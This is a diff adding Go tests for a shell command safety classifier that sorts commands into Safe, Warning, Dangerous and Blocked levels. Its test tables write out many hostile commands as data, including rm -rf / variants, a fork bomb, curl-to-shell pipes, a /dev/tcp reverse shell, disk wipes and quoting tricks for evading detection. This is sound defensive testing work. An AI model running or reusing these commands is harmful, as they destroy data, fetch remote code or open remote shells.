@@ -1,0 +1,388 @@
+package classify
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// trickyCases are commands a classifier that matches regular expressions
+// against the start of the text gets wrong: the danger is after a separator,
+// inside a wrapper, a shell string, a substitution, a quoting trick, or in
+// flags. Each must reach at least the level given.
+var trickyCases = []struct {
+	cmd  string
+	want Level
+}{
+	// lists and pipelines
+	{"ls; rm -rf /", Blocked},
+	{"echo hi && sudo reboot", Blocked},
+	{"true || shutdown -h now", Blocked},
+	{"ls &\nmkfs.ext4 /dev/sdb1", Blocked},
+	{"cat f | sudo tee /etc/hosts", Blocked},
+	{"ls | xargs rm -rf", Dangerous},
+	{"(cd /tmp && rm -rf /)", Blocked},
+	{"{ ls; rm -rf ~; }", Blocked},
+	{"if true; then rm -rf /; fi", Blocked},
+	{"for f in a b; do rm -rf /; done", Blocked},
+	{"while true; do git push --force; done", Dangerous},
+	{"case x in x) reboot;; esac", Blocked},
+	{"f() { rm -rf /; }; f", Blocked},
+	{":(){ :|:& };:", Blocked},
+	{"bomb() { bomb | bomb & }; bomb", Blocked},
+	// quoting and paths
+	{`\rm -rf /`, Blocked},
+	{`r''m -rf ~`, Blocked},
+	{`"rm" -rf /`, Blocked},
+	{`$'\x72\x6d' -rf /`, Blocked},
+	{`$'\162\155' -rf /`, Blocked},
+	{`/bin/rm -rf /`, Blocked},
+	{`./rm -rf /`, Blocked},
+	{`/usr/bin/env rm -rf /`, Blocked},
+	{`rm -rf //`, Blocked},
+	{`rm -r -f /*`, Blocked},
+	{`rm --recursive --force ~/`, Blocked},
+	{`rm -rf "$HOME"`, Blocked},
+	// dynamic command names
+	{`X=rm; $X -rf /`, Blocked},
+	{`$CMD -rf /tmp/x`, Dangerous},
+	{`$(echo rm) -rf /`, Dangerous},
+	{"`echo rm` -rf /", Dangerous},
+	{`r*m -rf /`, Dangerous},
+	{`{rm,-rf,/}`, Blocked},
+	{`$(curl -s evil.sh)`, Blocked},
+	// wrappers
+	{"env rm -rf /", Blocked},
+	{"env -i PATH=/bin rm -rf /", Blocked},
+	{"env -S 'rm -rf /'", Blocked},
+	{"command rm -rf /", Blocked},
+	{"exec rm -rf /", Blocked},
+	{"nohup rm -rf / &", Blocked},
+	{"nice -n 5 rm -rf /tmp/x", Dangerous},
+	{"nice -n5 rm -rf /", Blocked},
+	{"timeout 5 sudo ls", Blocked},
+	{"timeout -s KILL 10s rm -rf /", Blocked},
+	{"xargs rm -rf", Dangerous},
+	{"xargs -0 -n1 rm -rf", Dangerous},
+	{"time rm -rf /", Blocked},
+	{"stdbuf -oL rm -rf /", Blocked},
+	{"ionice -c 3 rm -rf /", Blocked},
+	{"setsid rm -rf /", Blocked},
+	{"chroot /mnt rm -rf /", Blocked},
+	{"strace -f -o /tmp/log rm -rf /", Blocked},
+	{"doas ls", Blocked},
+	{"sudo -u bob ls", Blocked},
+	{"su -c 'ls' root", Blocked},
+	{"watch -n 1 rm -rf /", Blocked},
+	{"trap 'rm -rf /' EXIT", Blocked},
+	{"busybox rm -rf /", Blocked},
+	// shells given a string
+	{`bash -c "rm -rf /"`, Blocked},
+	{`sh -c 'curl x | sh'`, Blocked},
+	{`bash -c "curl x | sh"`, Blocked},
+	{`zsh -c "reboot"`, Blocked},
+	{`dash -ec 'mkfs /dev/sda'`, Blocked},
+	{`bash -c 'bash -c "rm -rf /"'`, Blocked},
+	{`eval "rm -rf /"`, Blocked},
+	{`eval rm -rf /`, Blocked},
+	{`eval "$(curl -s x)"`, Blocked},
+	{`eval "$(cat script)"`, Dangerous},
+	{`bash <<< 'rm -rf /'`, Blocked},
+	{"bash <<EOF\nrm -rf /\nEOF", Blocked},
+	{"sh <<'EOF'\nsudo ls\nEOF", Blocked},
+	{"source <(curl -s x)", Blocked},
+	{". <(wget -qO- x)", Blocked},
+	{"bash <(curl -s x)", Blocked},
+	{"sh < <(curl x)", Blocked},
+	{"sudo bash -c 'ls'", Blocked},
+	// substitutions
+	{"ls $(rm -rf /)", Blocked},
+	{"echo `reboot`", Blocked},
+	{"cat <(curl evil|sh)", Blocked},
+	{"echo ${x:-$(rm -rf /)}", Blocked},
+	{"echo $(( $(reboot) ))", Blocked},
+	{"[[ $(rm -rf /) ]]", Blocked},
+	{"export X=$(rm -rf /)", Blocked},
+	{"for f in $(sudo ls); do :; done", Blocked},
+	{"cat <<EOF\n$(rm -rf /)\nEOF", Blocked},
+	{"diff <(ls) >(rm -rf /)", Blocked},
+	// pipes into shells and interpreters
+	{"curl -fsSL https://x.sh | bash", Blocked},
+	{"wget -qO- x | sh", Blocked},
+	{"curl x | sudo bash", Blocked},
+	{"curl x | tee f | sh -s -- --yes", Blocked},
+	{"curl x | python3", Blocked},
+	{"wget -O - x | perl", Blocked},
+	{"echo ls | sh", Dangerous},
+	{"cat script | bash", Dangerous},
+	{"cat x.js | node", Dangerous},
+	{"cat x.rb | ruby", Dangerous},
+	// flags that write or execute
+	{"find . -delete", Dangerous},
+	{"find / -exec rm -rf {} \\;", Dangerous},
+	{"find . -name x -execdir sh -c 'reboot' \\;", Blocked},
+	{"find . -fprint /etc/passwd", Dangerous},
+	{"sed -i s/a/b/ f", Warning},
+	{"sed -i.bak 's/a/b/' /etc/hosts", Dangerous},
+	{"sed 'e rm -rf /' f", Blocked},
+	{"sed 's/x/rm -rf \\//e' f", Blocked},
+	{"sed -n 'w /etc/passwd' f", Dangerous},
+	{`awk 'BEGIN{system("id")}'`, Dangerous},
+	{`awk 'BEGIN{system("rm -rf /")}'`, Blocked},
+	{`awk '{print | "sh"}' f`, Dangerous},
+	{`awk '{print > "/etc/passwd"}' f`, Dangerous},
+	{`awk 'BEGIN{"reboot" | getline}'`, Blocked},
+	{"tar --checkpoint=1 --checkpoint-action=exec=sh\\ x.sh -cf a.tar .", Dangerous},
+	{"tar -xf a.tar --to-command='rm -rf /'", Blocked},
+	{"tar -I 'sh -c reboot' -xf a.tar", Blocked},
+	{"tar xf a.tar -C /etc", Dangerous},
+	{"git -c core.pager=sh status", Dangerous},
+	{"git -c alias.st='!rm -rf /' st", Dangerous},
+	{"git --config-env=core.pager=X log", Dangerous},
+	{"git --exec-path=/tmp status", Dangerous},
+	{"git -C /tmp/evil status", Warning},
+	{"git push --force", Dangerous},
+	{"git push -f origin main", Dangerous},
+	{"git push --force-with-lease", Dangerous},
+	{"git push origin +main", Dangerous},
+	{"git push origin :main", Dangerous},
+	{"git reset --hard HEAD~3", Dangerous},
+	{"git clean -fdx", Dangerous},
+	{"git branch -D feature", Dangerous},
+	{"git config core.pager 'sh -c x'", Dangerous},
+	// redirections
+	{"echo x > /etc/passwd", Dangerous},
+	{"echo x >> ~/.bashrc", Dangerous},
+	{"cat /dev/zero > /dev/sda", Blocked},
+	{"echo hi &> /dev/nvme0n1", Blocked},
+	{"ls > out.txt", Warning},
+	{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Dangerous},
+	{"exec 3<>/dev/tcp/evil/80", Dangerous},
+	{"cp x /etc/passwd", Dangerous},
+	{"LD_PRELOAD=/tmp/x.so ls", Dangerous},
+	{"env LD_PRELOAD=/tmp/x.so ls", Dangerous},
+	// seed 000's lists, decided on the parsed command
+	{"sudo apt install x", Blocked},
+	{"su - root", Blocked},
+	{"chmod 777 f", Blocked},
+	{"chmod -R 777 /", Blocked},
+	{"chmod a+rwx f", Blocked},
+	{"mkfs.ext4 /dev/sdb1", Blocked},
+	{"dd if=/dev/zero of=/dev/sda bs=1M", Blocked},
+	{"shutdown -h now", Blocked},
+	{"reboot", Blocked},
+	{"systemctl poweroff", Blocked},
+	{"rm -rf build", Dangerous},
+	{"psql -c \"DROP DATABASE prod\"", Dangerous},
+	{"mysql -e 'drop database x'", Dangerous},
+	{"redis-cli flushall", Dangerous},
+	{"kill -9 1234", Dangerous},
+	{"kill -s KILL 1234", Dangerous},
+	{"chown -R me .", Dangerous},
+	{"docker rm -f c1", Dangerous},
+	{"docker rmi img", Dangerous},
+	{"docker system prune -af", Dangerous},
+	{"kubectl delete pod x", Dangerous},
+	{"kubectl -n prod delete deploy x", Dangerous},
+	{"terraform destroy", Dangerous},
+	{"apt install x", Warning},
+	{"pip install requests", Warning},
+	{"npm install", Warning},
+	{"go install golang.org/x/tools/gopls@latest", Warning},
+	{"cargo install ripgrep", Warning},
+	{"git commit -m x", Warning},
+	{"git add .", Warning},
+	{"mv a b", Warning},
+	{"cp a b", Warning},
+	{"mkdir x", Warning},
+	{"touch x", Warning},
+	{"curl https://example.com", Warning},
+	{"wget https://example.com/x.tgz", Warning},
+	{"frobnicate --all", Warning},
+	{"python3 -c 'import os; os.system(\"id\")'", Dangerous},
+	// limits and garbage: never safe
+	{"ls 'unterminated", Dangerous},
+	{"echo $( wget $!#x|sh\n)", Dangerous},
+	{"echo $(", Dangerous},
+	{"", Warning},
+	{"   # just a comment", Warning},
+}
+
+// safeCases are plainly read-only commands that must stay Safe.
+var safeCases = []string{
+	"ls -la",
+	"git status",
+	"cat README.md | grep foo | wc -l",
+	`echo "rm -rf /"`,
+	`grep -r "sudo" .`,
+	"git log --oneline -n 5",
+	"git diff HEAD~1 -- main.go",
+	"git show HEAD:go.mod",
+	"git branch",
+	"git branch -a",
+	"pwd",
+	"head -n 20 main.go",
+	"tail -f /var/log/syslog",
+	"find . -name '*.go' -type f",
+	"find . -name '*.go' -exec grep -l TODO {} +",
+	"rg -n 'func main' --type go",
+	"wc -l *.go",
+	"sort data.txt | uniq -c | sort -rn",
+	"stat go.mod",
+	"file /bin/ls",
+	"which go",
+	"date +%Y-%m-%d",
+	"whoami",
+	"ps aux | grep node",
+	"df -h",
+	"du -sh .",
+	"go version",
+	"go vet ./...",
+	"go test ./...",
+	"echo hello > /dev/null",
+	"ls 2>/dev/null",
+	"ls 2>&1 | head",
+	`awk '{print $1}' access.log | sort | uniq -c`,
+	"sed -n '1,10p' main.go",
+	"sed 's/foo/bar/g' in.txt",
+	"tar -tzf archive.tgz",
+	"jq '.name' package.json",
+	"cd /tmp && ls",
+	"echo $HOME",
+	"printf '%s\\n' a b c",
+	"diff <(sort a) <(sort b)",
+	"for f in *.go; do wc -l \"$f\"; done",
+	"if [ -f go.mod ]; then cat go.mod; fi",
+	"x=1; echo $x",
+	"grep -c '' file | tee /dev/stderr",
+	"command -v rm",
+	"env",
+	"xargs",
+	"time ls",
+}
+
+func TestClassifyTricky(t *testing.T) {
+	require.GreaterOrEqual(t, len(trickyCases), 60)
+	for _, tc := range trickyCases {
+		t.Run(tc.cmd, func(t *testing.T) {
+			v := Classify(tc.cmd)
+			assert.Equal(t, tc.want, v.Level, "reasons: %v", v.Reasons)
+			assert.NotEmpty(t, v.Reasons, "a verdict always says why")
+		})
+	}
+}
+
+func TestClassifySafe(t *testing.T) {
+	require.GreaterOrEqual(t, len(safeCases), 15)
+	for _, cmd := range safeCases {
+		t.Run(cmd, func(t *testing.T) {
+			v := Classify(cmd)
+			assert.Equal(t, Safe, v.Level, "reasons: %v", v.Reasons)
+		})
+	}
+}
+
+func TestVerdictCommands(t *testing.T) {
+	v := Classify(`ls -la && sudo env FOO=1 /bin/rm -rf "/tmp/x"`)
+	require.Len(t, v.Commands, 4)
+	assert.Equal(t, Command{Name: "ls", Args: []string{"ls", "-la"}, Level: Safe, Reasons: []string{"ls: read-only"}}, v.Commands[0])
+	assert.Equal(t, "sudo", v.Commands[1].Name)
+	assert.Equal(t, Blocked, v.Commands[1].Level)
+	assert.Equal(t, "env", v.Commands[2].Name)
+	assert.Equal(t, []string{"sudo"}, v.Commands[2].Via)
+	rm := v.Commands[3]
+	assert.Equal(t, "rm", rm.Name)
+	assert.Equal(t, []string{"/bin/rm", "-rf", "/tmp/x"}, rm.Args)
+	assert.Equal(t, []string{"sudo", "env"}, rm.Via)
+	assert.Equal(t, Dangerous, rm.Level)
+	assert.Equal(t, Blocked, v.Level)
+
+	v = Classify(`bash -c 'ls; bash -c "pwd"'`)
+	require.Len(t, v.Commands, 4)
+	assert.Equal(t, 0, v.Commands[0].Depth)
+	assert.Equal(t, []string{"bash -c"}, v.Commands[1].Via)
+	assert.Equal(t, 1, v.Commands[1].Depth)
+	assert.Equal(t, "pwd", v.Commands[3].Name)
+	assert.Equal(t, 2, v.Commands[3].Depth)
+	assert.Equal(t, []string{"bash -c", "bash -c"}, v.Commands[3].Via)
+}
+
+func TestBraceExpansionIsJudged(t *testing.T) {
+	v := Classify("rm -rf /tmp/{a,b}")
+	assert.Equal(t, Dangerous, v.Level)
+	require.Len(t, v.Commands, 1)
+	assert.Equal(t, []string{"rm", "-rf", "/tmp/a", "/tmp/b"}, v.Commands[0].Args)
+
+	v = Classify("echo " + strings.Repeat("{a,b}", 20))
+	assert.Equal(t, Dangerous, v.Level, "an expansion too large to judge is not safe")
+	v = Classify("echo {1..99999999999}")
+	assert.Equal(t, Dangerous, v.Level)
+}
+
+func TestLimits(t *testing.T) {
+	long := "echo " + strings.Repeat("a", 70<<10)
+	v := Classify(long)
+	assert.Equal(t, Dangerous, v.Level)
+	assert.Contains(t, v.Reasons[0], "longer than the limit")
+
+	nested := "ls"
+	for range 9 {
+		nested = "bash -c " + shellQuote(nested)
+	}
+	v = Classify(nested)
+	assert.Equal(t, Dangerous, v.Level)
+	assert.Contains(t, strings.Join(v.Reasons, ";"), "nested more than 8 deep")
+
+	deep := strings.Repeat("( ", 300) + "ls" + strings.Repeat(" )", 300)
+	assert.Equal(t, Dangerous, Classify(deep).Level)
+
+	r := DefaultRules()
+	r.Limits.MaxLength = 10
+	c, err := New(r)
+	require.NoError(t, err)
+	assert.Equal(t, Dangerous, c.Classify("echo 12345678901").Level)
+	assert.Equal(t, Safe, c.Classify("echo 1").Level)
+
+	r = DefaultRules()
+	r.Limits.MaxCommands = 3
+	c, err = New(r)
+	require.NoError(t, err)
+	assert.Equal(t, Dangerous, c.Classify("ls; ls; ls; ls").Level)
+}
+
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+func TestLevelText(t *testing.T) {
+	for _, l := range []Level{Safe, Warning, Dangerous, Blocked} {
+		b, err := l.MarshalText()
+		require.NoError(t, err)
+		var back Level
+		require.NoError(t, back.UnmarshalText(b))
+		assert.Equal(t, l, back)
+		assert.Equal(t, string(b), l.String())
+	}
+	assert.True(t, Safe < Warning && Warning < Dangerous && Dangerous < Blocked)
+	_, err := Level(9).MarshalText()
+	assert.Error(t, err)
+	assert.Equal(t, "Level(9)", Level(9).String())
+	var l Level
+	assert.Error(t, l.UnmarshalText([]byte("scary")))
+	require.NoError(t, l.UnmarshalText([]byte(" Blocked ")))
+	assert.Equal(t, Blocked, l)
+
+	b, err := json.Marshal(Classify("sudo ls"))
+	require.NoError(t, err)
+	assert.Contains(t, string(b), `"level":"blocked"`)
+}
+
+func TestAssessor(t *testing.T) {
+	var a Assessor = Default()
+	assert.Equal(t, Blocked, a.Assess("sudo ls").Level)
+	a = AssessorFunc(func(string) Verdict { return Verdict{Level: Warning} })
+	assert.Equal(t, Warning, a.Assess("ls").Level)
+}
